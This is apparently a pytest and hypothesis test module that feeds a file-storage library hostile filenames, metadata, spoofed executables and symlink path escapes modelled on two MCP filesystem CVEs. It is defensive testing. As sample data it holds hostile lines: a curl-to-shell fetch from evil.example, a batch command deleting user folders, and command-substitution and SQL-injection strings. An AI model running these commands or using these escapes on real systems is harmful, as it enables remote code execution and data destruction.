"""Hostile input, generated: every call ends in a clear refusal or a safe result.

A clear refusal is a :class:`filetier.FiletierError` of the class the input deserves,
with a one-line message; anything else leaking out (``UnicodeEncodeError``, a driver's
exception) is a bug. A safe result means:

- filenames (Unicode, NUL, 4 KiB long, Windows device names, RTL overrides, lone
  surrogates): the file is delivered into the downloads folder itself, under one name
  that is safe on every common OS, with the bytes that were uploaded;
- metadata (deep, huge, cyclic, NUL, non-JSON values): refused as InvalidMetadataError,
  or stored and read back equal to its JSON form;
- MIME spoofing: an executable (PE, ELF, Mach-O, Java class, a ``#!`` script, a batch
  file) is never recorded as a PDF or an image, whatever its name or declared type;
- download destinations built from the MCP filesystem server's escapes
  (CVE-2025-53110: a sibling sharing the root's name as a prefix; CVE-2025-53109: a
  symlink inside the root pointing out): refused, or written strictly inside the root,
  with nothing outside changed.

Each property runs against the embedded store; filenames and metadata also against
PostgreSQL. A store is opened once per test and driven from the synchronous examples
through an ``asyncio.Runner``. Example counts are bounded so the module runs in well
under 30 s; ``RELIABILITY_HOSTILE_SCALE=N`` multiplies them (``scripts/reliability``
does), and ``RELIABILITY_COUNTS=FILE`` makes the module record how many examples ran.
"""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import json
import math
import os
import unicodedata
from collections import Counter
from collections.abc import Coroutine, Iterator
from pathlib import Path
from typing import Any, TypeVar

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from filetier import (
    FileStore,
    FiletierError,
    InvalidInputError,
    InvalidMetadataError,
    PathNotAllowedError,
    Settings,
)
from filetier.paths import owner_folder
from testbed.services import S3Server

T = TypeVar("T")
TRIED: Counter[str] = Counter()

# --------------------------------------------------------------------------- plumbing


def scaled(n: int) -> int:
    return n * max(1, int(os.environ.get("RELIABILITY_HOSTILE_SCALE", "1")))


def bounded(n: int) -> Any:
    return settings(
        max_examples=scaled(n),
        deadline=None,
        suppress_health_check=[
            HealthCheck.too_slow,
            HealthCheck.data_too_large,
            HealthCheck.function_scoped_fixture,  # one store for all examples, on purpose
        ],
    )


@pytest.fixture(scope="module", autouse=True)
def record_counts() -> Iterator[None]:
    """Add this module's example counts to ``$RELIABILITY_COUNTS`` (a JSON object)."""
    yield
    target = os.environ.get("RELIABILITY_COUNTS")
    if not target:
        return
    path = Path(target)
    counts = json.loads(path.read_text()) if path.exists() else {}
    for name, n in TRIED.items():
        counts[name] = counts.get(name, 0) + n
    path.write_text(json.dumps(counts, indent=2, sort_keys=True) + "\n")


class Session:
    """One open FileStore, driven from synchronous hypothesis examples."""

    def __init__(self, store_settings: Settings) -> None:
        self.settings = store_settings
        self.runner = asyncio.Runner()
        self.store = FileStore(store_settings)
        self.runner.run(self.store.start())

    def run(self, coro: Coroutine[Any, Any, T]) -> T:
        return self.runner.run(coro)

    def close(self) -> None:
        try:
            self.runner.run(self.store.close())
        finally:
            self.runner.close()


@pytest.fixture
def embedded(home: Path) -> Iterator[Session]:
    session = Session(Settings(home=home, fsync=False, bookkeeping_flush_seconds=0.05))
    yield session
    session.close()


@pytest.fixture
def production(home: Path, pg_url: str, moto: S3Server) -> Iterator[Session]:
    session = Session(
        Settings(
            home=home,
            database_url=pg_url,
            fsync=False,
            bookkeeping_flush_seconds=0.05,
            **moto.settings_overrides(moto.create_bucket()),  # type: ignore[arg-type]
        )
    )
    yield session
    session.close()


@pytest.fixture(params=["embedded", "production"])
def either(request: pytest.FixtureRequest) -> Session:
    session: Session = request.getfixturevalue(request.param)
    return session


def assert_clear(error: FiletierError, *classes: type[FiletierError]) -> None:
    assert isinstance(error, classes), f"{type(error).__name__}: {error}"
    message = str(error)
    assert message and "\n" not in message and "Traceback" not in message


# --------------------------------------------------------------------------- filenames

WINDOWS_DEVICES = frozenset(
    {"CON", "PRN", "AUX", "NUL"}
    | {f"COM{d}" for d in "123456789\u00b9\u00b2\u00b3"}
    | {f"LPT{d}" for d in "123456789\u00b9\u00b2\u00b3"}
)
NAME_FRAGMENTS = [
    "report",
    ".pdf",
    ".exe",
    ".",
    "..",
    "/",
    "\\",
    "../../etc/passwd",
    "C:\\Windows\\System32\\",
    "~",
    " ",
    "\x00",
    "\n",
    "\r\n",
    "\t",
    "\x1b[31m",
    "\u202e",  # RIGHT-TO-LEFT OVERRIDE: "invoice\u202efdp.exe" shows as "invoiceexe.pdf"
    "\u202d",
    "\u200b",
    "\ufeff",
    "\u2028",
    "CON",
    "nul",
    "LPT1",
    "COM\u00b9",
    "é",
    "😀",
    "日本語",
    '<>:"|?*',
    "%2e%2e%2f",
    "$(reboot)",
    "`id`",
    "Content-Type: text/html",
]
LONG_UNITS = ["a", "é", "€", "😀", "\u202e", ".", "/", "a/"]

filenames = st.one_of(
    st.text(max_size=60),
    st.lists(st.sampled_from(NAME_FRAGMENTS), min_size=1, max_size=8).map("".join),
    st.builds(
        lambda unit, n, tail: unit * n + tail,
        st.sampled_from(LONG_UNITS),
        st.integers(200, 4096),
        st.sampled_from(["", ".pdf", ".tar.gz", "." + "x" * 40]),
    ),
    st.builds(
        lambda a, b: f"{a}\u202e{b}",
        st.text(max_size=20),
        st.sampled_from(["fdp.exe", "gpj.scr", "txt.bat"]),
    ),
    st.sampled_from(sorted(WINDOWS_DEVICES)).flatmap(
        lambda d: st.sampled_from([d, d.lower(), f"{d}.txt", f"{d} .tar.gz", f" {d}"])
    ),
)


def assert_safe_name(name: str) -> None:
    assert name and name not in {".", ".."}, repr(name)
    assert not set(name) & set('/\\<>:"|?*\x00'), repr(name)
    # Line separators (Zl, Zp) are test_line_separators_do_not_survive_into_a_delivered_name's.
    assert not any(unicodedata.category(ch) in {"Cc", "Cf", "Cs"} for ch in name), repr(name)
    assert len(name.encode("utf-8")) <= 255, repr(name)
    assert name == name.strip(" ."), repr(name)
    assert name.split(".", 1)[0].rstrip(" ").upper() not in WINDOWS_DEVICES, repr(name)


async def filename_round_trip(store: FileStore, name: str) -> str:
    """``"refused"`` (clearly) or ``"stored"`` (and delivered safely): the caller asserts
    which one its input deserves, so a test of refusals cannot pass on a stored value."""
    payload = hashlib.sha256(name.encode("utf-8", "surrogatepass")).digest()
    try:
        uploaded = await store.upload_file(payload, filename=name)
    except FiletierError as error:
        assert_clear(error, InvalidInputError)
        return "refused"
    try:
        record = await store.stat(uploaded.file_id)
        assert isinstance(record.filename, str) and record.filename
        assert "\x00" not in record.filename
        path = await store.download_file(uploaded.file_id)
        downloads = store.settings.downloads_dir.resolve() / owner_folder(store.owner)
        assert path.parent.resolve() == downloads, path
        assert not path.is_symlink()
        assert_safe_name(path.name)
        assert path.read_bytes() == payload
        path.unlink()
    finally:
        await store.delete(uploaded.file_id)
    return "stored"


@pytest.mark.parametrize("mode", ["embedded", "production"])
def test_hostile_filenames_are_refused_clearly_or_delivered_under_a_safe_name(
    request: pytest.FixtureRequest, mode: str
) -> None:
    session: Session = request.getfixturevalue(mode)

    @bounded(150 if mode == "embedded" else 50)
    @given(name=filenames)
    @example(name="invoice\u202efdp.exe")
    @example(name="x" * 4096 + ".pdf")
    @example(name="CON")
    @example(name="bad\x00name.txt")
    @example(name="../../../../etc/passwd")
    def check(name: str) -> None:
        TRIED[f"filename ({mode})"] += 1
        outcomes[session.run(filename_round_trip(session.store, name))] += 1

    outcomes: Counter[str] = Counter()
    check()
    # Both answers are allowed per name, but a store that refused every name would pass
    # the loop above without delivering anything: the safe-name checks must have run.
    assert outcomes["stored"] > 0, outcomes


@pytest.mark.parametrize("name", ["a\ud800b.txt", "\udcff", "report\udc80.pdf"])
def test_filename_with_a_lone_surrogate_is_refused_clearly(either: Session, name: str) -> None:
    """Lone surrogates (``os.fsdecode`` makes them from undecodable bytes) cannot be
    stored as UTF-8 text: InvalidInputError, not a UnicodeEncodeError from the driver."""
    TRIED["filename, explicit cases"] += 1
    assert either.run(filename_round_trip(either.store, name)) == "refused"


@pytest.mark.parametrize("separator", ["\u2028", "\u2029", "\x85"])
def test_line_separators_do_not_survive_into_a_delivered_name(
    embedded: Session, separator: str
) -> None:
    """Unicode line and paragraph separators break a name into two lines wherever it is
    shown, logged or sent in a header (Content-Disposition), as a newline does: a name a
    caller chooses with one is refused, as one with a newline is."""
    TRIED["filename, explicit cases"] += 1

    async def run() -> None:
        await embedded.store.upload_file(b"x", filename=f"first{separator}second.txt")

    with pytest.raises(InvalidInputError, match="control characters"):
        embedded.run(run())


# --------------------------------------------------------------------------- metadata

# NUL is left to test_metadata_with_nul_is_stored_or_refused_clearly (PostgreSQL's jsonb
# cannot hold it), lone surrogates to the tests after it: one failing test per bug.
json_text = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=30)
json_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**70), max_value=2**70),
    st.floats(allow_nan=True, allow_infinity=True),
    json_text,
    st.sampled_from(["\u202e", "😀" * 10, "\\u0000", "'; DROP TABLE file_metadata; --"]),
)
json_values = st.recursive(
    json_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=5),
        st.dictionaries(json_text, inner, max_size=5),
    ),
    max_leaves=30,
)


def nested(depth: int, leaf: Any, kinds: list[str]) -> Any:
    value = leaf
    for level in range(depth):
        value = [value] if kinds[level % len(kinds)] == "list" else {"k": value}
    return value


metadatas = st.one_of(
    st.dictionaries(json_text, json_values, max_size=8),
    st.builds(
        lambda depth, kinds: {"deep": nested(depth, "leaf", kinds)},
        st.integers(1, 3000),
        st.lists(st.sampled_from(["list", "dict"]), min_size=1, max_size=3),
    ),
    st.builds(
        lambda n, ch: {"huge": ch * n},
        st.integers(60_000, 70_000) | st.integers(1, 2_000_000),
        st.sampled_from(["x", "é", "😀", "\x01"]),
    ),
    st.builds(lambda n: {f"key{i}": i for i in range(n)}, st.integers(1, 20_000)),
    st.sampled_from(
        [
            [],
            "a string",
            42,
            {"set": {1, 2}},
            {"bytes": b"raw"},
            {"tuple": (1, 2)},
            {"object": object()},
            {1: "int key"},
            {"nan": float("nan")},
            {"inf": float("-inf")},
        ]
    ),
)


def cyclic() -> dict[str, Any]:
    loop: dict[str, Any] = {}
    loop["self"] = loop
    return loop


def json_equal(a: Any, b: Any) -> bool:
    """Equality of JSON values, floats compared as the numbers they are."""
    if isinstance(a, float) or isinstance(b, float):
        return isinstance(a, int | float) and isinstance(b, int | float) and math.isclose(a, b)
    if isinstance(a, list):
        return isinstance(b, list) and len(a) == len(b) and all(map(json_equal, a, b))
    if isinstance(a, dict):
        return (
            isinstance(b, dict) and a.keys() == b.keys() and all(json_equal(a[k], b[k]) for k in a)
        )
    return bool(a == b)


async def metadata_round_trip(store: FileStore, metadata: Any) -> str:
    """``"refused"`` (clearly) or ``"stored"`` (and read back equal): see filename_round_trip."""
    try:
        uploaded = await store.upload_file(b"metadata probe", metadata=metadata)
    except FiletierError as error:
        assert_clear(error, InvalidMetadataError)
        assert len(str(error)) < 500  # the refusal does not echo a huge input
        return "refused"
    try:
        record = await store.stat(uploaded.file_id)
        expected = json.loads(json.dumps(metadata))
        assert json_equal(record.metadata, expected), (record.metadata, expected)
    finally:
        await store.delete(uploaded.file_id)
    return "stored"


def test_hostile_metadata_is_refused_clearly_or_stored_as_its_json(either: Session) -> None:
    mode = "production" if either.settings.s3_bucket else "embedded"

    @bounded(80 if mode == "embedded" else 40)
    @given(metadata=metadatas)
    @example(metadata={"deep": nested(2000, "leaf", ["list"])})
    @example(metadata={"huge": "x" * 2_000_000})
    @example(metadata=cyclic())
    def check(metadata: Any) -> None:
        TRIED[f"metadata ({mode})"] += 1
        outcomes[either.run(metadata_round_trip(either.store, metadata))] += 1

    outcomes: Counter[str] = Counter()
    check()
    # As for filenames: the read-back comparison must have run on some examples.
    assert outcomes["stored"] > 0, outcomes


@pytest.mark.parametrize(
    "metadata",
    [{"note": "a\x00b"}, {"a\x00b": 1}, {"list": ["ok", "\x00"]}],
    ids=["value", "key", "nested"],
)
def test_metadata_with_nul_is_stored_or_refused_clearly(either: Session, metadata: Any) -> None:
    """NUL is valid JSON, but PostgreSQL's jsonb cannot store it: a database outage is
    not the right answer."""
    TRIED["metadata, explicit cases"] += 1
    assert either.run(metadata_round_trip(either.store, metadata)) in {"stored", "refused"}


@pytest.mark.parametrize("metadata", [{"name": "\ud800"}, {"\udcff": 1}], ids=["value", "key"])
def test_metadata_with_a_lone_surrogate_is_refused_clearly(either: Session, metadata: Any) -> None:
    """A lone surrogate cannot be encoded as UTF-8: InvalidMetadataError, not a
    UnicodeEncodeError from inside the store."""
    TRIED["metadata, explicit cases"] += 1
    assert either.run(metadata_round_trip(either.store, metadata)) == "refused"


# --------------------------------------------------------------------------- MIME spoofing

EXECUTABLES = {
    "pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8"
    + b"\x00" * 43
    + b"\x80\x00\x00\x00"
    + b"This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00" * 64,
    "elf": b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100,
    "mach-o": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00\x02\x00\x00\x00" + b"\x00" * 100,
    "java-class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x00" * 100,
}
SCRIPTS = {
    "shell-script": b"#!/bin/sh\ncurl -s http://evil.example/x | sh\n",
    "python-script": b"#!/usr/bin/env python3\nimport os; os.system('id')\n",
    "batch": b"@echo off\r\ndel /q /s C:\\Users\\*\r\n",
}
SPOOFED_TYPES = frozenset(
    {
        "application/pdf",
        "image/png",
        "image/jpeg",
        "image/gif",
        "application/msword",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    }
)


@given(
    kind=st.sampled_from(sorted(EXECUTABLES | SCRIPTS)),
    name=st.sampled_from(
        [
            "report.pdf",
            "REPORT.PDF",
            "photo.png",
            "photo.jpg",
            "letter.docx",
            "notes.txt",
            "invoice\u202efdp.exe",
            "report.pdf.exe",
            "pdf",
            ".pdf",
        ]
    ),
    declared=st.sampled_from([None, "application/octet-stream", "application/x-anything"]),
    tail=st.binary(max_size=64),
)
@bounded(60)
def test_an_executable_is_never_recorded_as_a_document_or_image(
    embedded: Session, kind: str, name: str, declared: str | None, tail: bytes
) -> None:
    TRIED["MIME spoofing"] += 1
    data = (EXECUTABLES | SCRIPTS)[kind] + (tail if kind in EXECUTABLES else b"")

    async def run() -> str:
        uploaded = await embedded.store.upload_file(data, filename=name, mime_type=declared)
        record = await embedded.store.stat(uploaded.file_id)
        assert record.mime_type == uploaded.mime_type
        await embedded.store.delete(uploaded.file_id)
        return uploaded.mime_type

    stored = embedded.run(run())
    assert stored not in SPOOFED_TYPES, f"{kind} named {name!r} declared {declared} -> {stored}"


async def recorded_type(store: FileStore, data: bytes, name: str, declared: str | None) -> str:
    uploaded = await store.upload_file(data, filename=name, mime_type=declared)
    await store.delete(uploaded.file_id)
    return uploaded.mime_type


@pytest.mark.parametrize("declared", ["application/pdf", "image/png"])
@pytest.mark.parametrize("kind", sorted(EXECUTABLES))
def test_a_binary_declared_as_a_document_keeps_its_sniffed_type(
    embedded: Session, kind: str, declared: str
) -> None:
    TRIED["MIME spoofing, explicit cases"] += 1
    stored = embedded.run(recorded_type(embedded.store, EXECUTABLES[kind], "report.pdf", declared))
    assert stored not in SPOOFED_TYPES, stored


@pytest.mark.parametrize("declared", ["application/pdf", "image/png"])
@pytest.mark.parametrize("kind", sorted(SCRIPTS))
def test_a_script_declared_as_a_document_is_not_recorded_as_one(
    embedded: Session, kind: str, declared: str
) -> None:
    """A text file's declared type is taken when the sniffer finds nothing better; a
    ``#!`` script or batch file declared as a PDF or PNG must not become one."""
    TRIED["MIME spoofing, explicit cases"] += 1
    stored = embedded.run(recorded_type(embedded.store, SCRIPTS[kind], "report.pdf", declared))
    assert stored not in SPOOFED_TYPES, stored


# --------------------------------------------------------------------------- path escapes


class EscapeLayout:
    """``base/files`` is the allowed root, with the traps the MCP filesystem server fell
    into planted around and inside it."""

    def __init__(self, base: Path) -> None:
        self.base = base.resolve()
        self.root = self.base / "files"
        self.evil = self.base / "files-evil"  # CVE-2025-53110: shares the prefix
        self.outside = self.base / "outside"
        for directory in (self.root, self.evil, self.outside, self.root / "sub"):
            directory.mkdir(parents=True, exist_ok=True)
        (self.outside / "secret.txt").write_bytes(b"outside original")
        (self.evil / "secret.txt").write_bytes(b"evil original")
        self.links = {
            "link": self.outside,  # CVE-2025-53109: a symlink inside the root, out
            "evil-link": self.evil,
            "secret-link": self.outside / "secret.txt",
            "inner": self.root / "sub",
            "loop": self.root / "loop",
            "dangling": self.outside / "not-yet.txt",
            "up": self.base,
        }
        self.restore()

    def restore(self) -> None:
        for name, target in self.links.items():
            path = self.root / name
            if path.is_symlink() and Path(os.readlink(path)) == target:
                continue
            if path.is_dir() and not path.is_symlink():
                continue  # a download made it a directory? then it was inside: fine
            path.unlink(missing_ok=True)
            path.symlink_to(target)

    def outside_state(self) -> dict[str, Any]:
        state: dict[str, Any] = {}
        for directory in (self.base, self.evil, self.outside):
            for path in sorted(directory.iterdir()):
                if path == self.root:
                    continue
                state[str(path)] = (
                    "dir"
                    if path.is_dir() and not path.is_symlink()
                    else path.read_bytes()
                    if path.is_file() and not path.is_symlink()
                    else os.readlink(path)
                )
        return state


ESCAPE_FRAGMENTS = [
    "/",
    "//",
    "..",
    ".",
    "\\",
    "~",
    " ",
    "\x00",
    "%2e%2e",
    "a",
    "sub",
    "inner",
    "link",
    "evil-link",
    "secret-link",
    "loop",
    "dangling",
    "up",
    "files",
    "files-evil",
    "outside",
    "secret.txt",
    "x.bin",
    "é",
    "\u202e",
    "😀",
]
ESCAPE_PREFIXES = ["", "", "ROOT/", "ROOT", "ROOT-evil/", "BASE/", "/", "~/", "./", "ROOT/../"]
destinations = st.tuples(
    st.sampled_from(ESCAPE_PREFIXES),
    st.one_of(
        st.text(max_size=30),
        st.lists(st.sampled_from(ESCAPE_FRAGMENTS), max_size=8).map("/".join),
        st.lists(st.sampled_from(ESCAPE_FRAGMENTS), max_size=8).map("".join),
    ),
)


@pytest.fixture
def escape_session(tmp_path: Path) -> Iterator[tuple[Session, EscapeLayout]]:
    layout = EscapeLayout(tmp_path / "escape")
    session = Session(
        Settings(
            home=tmp_path / "home",
            allowed_roots=str(layout.root),
            fsync=False,
            bookkeeping_flush_seconds=0.05,
        )
    )
    yield session, layout
    session.close()


def test_mcp_filesystem_escapes_never_write_outside_the_root(
    escape_session: tuple[Session, EscapeLayout],
) -> None:
    session, layout = escape_session
    payload = b"downloaded bytes"
    file_id = str(session.run(session.store.upload_file(payload, filename="x.bin")).file_id)
    seen: Counter[str] = Counter()

    @bounded(150)
    @given(parts=destinations)
    @example(parts=("ROOT-evil/", "x.bin"))  # CVE-2025-53110
    @example(parts=("ROOT/", "link/x.bin"))  # CVE-2025-53109
    @example(parts=("ROOT/", "secret-link"))
    @example(parts=("ROOT/", "dangling"))
    @example(parts=("ROOT/", "up/outside/x.bin"))
    @example(parts=("ROOT/../", "outside/x.bin"))
    def check(parts: tuple[str, str]) -> None:
        TRIED["download destination escapes"] += 1
        prefix, rest = parts
        prefix = prefix.replace("ROOT", str(layout.root)).replace("BASE", str(layout.base))
        destination = prefix + rest
        before = layout.outside_state()
        try:
            path = session.run(session.store.download_file(file_id, destination))
        except FiletierError as error:
            assert_clear(error, PathNotAllowedError, InvalidInputError)
            seen["refused"] += 1
        else:
            seen["written"] += 1
            real = Path(os.path.realpath(path))
            assert real.is_relative_to(layout.root) and real != layout.root, (destination, path)
            assert not path.is_symlink()
            assert real.read_bytes() == payload
            with contextlib.suppress(OSError):
                real.unlink()
        finally:
            assert layout.outside_state() == before, destination
            layout.restore()

    check()
    assert seen["written"] and seen["refused"], seen  # both sides of the rule were tried
